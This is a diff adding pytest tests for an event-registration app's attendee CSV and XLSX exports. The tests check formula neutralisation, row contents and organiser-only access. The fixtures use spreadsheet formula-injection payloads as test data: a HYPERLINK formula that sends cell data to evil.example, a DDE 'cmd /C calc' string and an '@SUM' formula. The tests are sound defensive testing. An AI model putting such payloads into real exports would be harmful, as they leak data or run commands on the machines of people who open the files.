@@ -1,0 +1,123 @@
+"""Attendee exports: what the rows hold, and that no cell runs as a spreadsheet formula."""
+
+import csv
+import io
+import uuid
+
+from openpyxl import load_workbook
+
+from eventreg.accounts.service import create_api_token
+from eventreg.checkin import service as checkin
+from eventreg.checkin.doors import create_door_access
+from eventreg.registrations.service import AttendeeRequest, cancel_attendees
+from tests.conftest import AuthActions
+
+COLOUR = {"label": {"en": "Favourite colour"}, "kind": "single_choice", "asked_per": "attendee",
+          "option_labels": [{"en": "Blue"}, {"en": "Yellow"}]}
+NOTE = {"label": {"en": "Anything we should know?"}, "kind": "text"}
+ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+
+
+def read_csv(body: bytes) -> list[list[str]]:
+    text = body.decode("utf-8")
+    assert text.startswith("\ufeff")
+    return list(csv.reader(io.StringIO(text[1:])))
+
+
+def read_xlsx(body: bytes):
+    return load_workbook(io.BytesIO(body)).active
+
+
+def registered_family(db_session, make_event, make_registration):
+    event = make_event(activities=[{"title": {"en": "Doll-making"}, "capacity": 10}],
+                       questions=[COLOUR, NOTE])
+    dolls = event.activities[0]
+    colour, note = event.questions
+    blue = colour.options[0]["value"]
+    family = make_registration(event, [
+        AttendeeRequest(name=ATTACK, age_group="adult", answers={colour.id: blue}),
+        AttendeeRequest(name="Mykola Kovalenko", age_group="child", activity_ids=[dolls.id]),
+        AttendeeRequest(name="Daryna Kovalenko", age_group="child"),
+    ], contact_name="@SUM(1+1)", phone="+359 88 123 4567",
+        answers={note.id: "+cmd|' /C calc'!A0"})
+    door, _ = create_door_access(db_session, event, "Main gate")
+    checkin.check_in(db_session, door, checkin.CheckinRequest(
+        client_id=uuid.uuid4().hex, attendee_id=family.attendees[1].id))
+    cancel_attendees(db_session, family, [family.attendees[2].id])
+    return event
+
+
+def test_csv_neutralises_formulas_and_keeps_phone_numbers(client, db_session, organiser,
+                                                          make_event, make_registration, auth):
+    event = registered_family(db_session, make_event, make_registration)
+    auth.login(organiser)
+    response = client.get(f"/manage/events/{event.slug}/attendees.csv")
+    assert response.status_code == 200
+    assert response.mimetype == "text/csv"
+    assert "attachment" in response.headers["Content-Disposition"]
+    assert "no-store" in response.headers["Cache-Control"]
+    header, *rows = read_csv(response.data)
+    by_column = [dict(zip(header, row, strict=True)) for row in rows]
+    assert by_column[0]["Name"] == "'" + ATTACK
+    assert by_column[0]["Contact name"] == "'@SUM(1+1)"
+    assert by_column[0]["Anything we should know?"] == "'+cmd|' /C calc'!A0"
+    assert by_column[0]["Phone"] == "+359881234567"
+    assert not any(cell.startswith(("=", "+", "-", "@")) and cell != "+359881234567"
+                   for row in rows for cell in row)
+
+
+def test_csv_rows_hold_choices_answers_check_in_and_status(client, db_session, organiser,
+                                                           make_event, make_registration, auth):
+    event = registered_family(db_session, make_event, make_registration)
+    auth.login(organiser)
+    header, *rows = read_csv(client.get(f"/manage/events/{event.slug}/attendees.csv").data)
+    olena, mykola, daryna = [dict(zip(header, row, strict=True)) for row in rows]
+    assert olena["Favourite colour"] == "Blue"
+    assert mykola["Activities"] == "Doll-making"
+    assert mykola["Checked in at door"] == "Main gate"
+    assert mykola["Checked in at"] != "" and olena["Checked in at"] == ""
+    assert (olena["Status"], daryna["Status"]) == ("valid", "cancelled")
+    assert mykola["Age group"] == "child"
+
+
+def test_xlsx_cells_are_text_never_formulas(client, db_session, organiser, make_event,
+                                            make_registration, auth):
+    event = registered_family(db_session, make_event, make_registration)
+    auth.login(organiser)
+    response = client.get(f"/manage/events/{event.slug}/attendees.xlsx")
+    assert response.status_code == 200
+    sheet = read_xlsx(response.data)
+    header = [cell.value for cell in sheet[1]]
+    name = sheet.cell(row=2, column=header.index("Name") + 1)
+    assert name.value == "'" + ATTACK and name.data_type == "s"
+    formulas = [cell.coordinate for row in sheet.iter_rows() for cell in row
+                if cell.data_type == "f"]
+    assert formulas == []
+    assert sheet.cell(row=3, column=header.index("Checked in at") + 1).is_date
+
+
+def test_api_exports_need_an_organiser_of_the_events_organisation(
+    client, db_session, organiser, make_organiser, make_event, make_registration
+):
+    event = registered_family(db_session, make_event, make_registration)
+    _, token = create_api_token(db_session, organiser, "exports")
+    _, stranger = create_api_token(db_session, make_organiser("Other office"), "x")
+    header, *rows = read_csv(client.get(
+        f"/api/v1/events/{event.slug}/attendees.csv",
+        headers={"Authorization": f"Bearer {token}", "Accept-Language": "bg"}).data)
+    assert len(rows) == 3
+    assert header[7] == "Име"  # headers in the asker's language
+    for suffix in ("csv", "xlsx"):
+        url = f"/api/v1/events/{event.slug}/attendees.{suffix}"
+        assert client.get(url).status_code == 401
+        assert client.get(url, headers={"Authorization": f"Bearer {stranger}"}).status_code == 404
+        response = client.get(url, headers={"Authorization": f"Bearer {token}"})
+        assert response.status_code == 200
+
+
+def test_other_organisations_cannot_download_attendees(client, db_session, make_organiser,
+                                                       make_event, make_registration):
+    event = registered_family(db_session, make_event, make_registration)
+    AuthActions(client).login(make_organiser("Other office"))
+    assert client.get(f"/manage/events/{event.slug}/attendees.csv").status_code == 404
+    assert client.get(f"/manage/events/{event.slug}/attendees.xlsx").status_code == 404
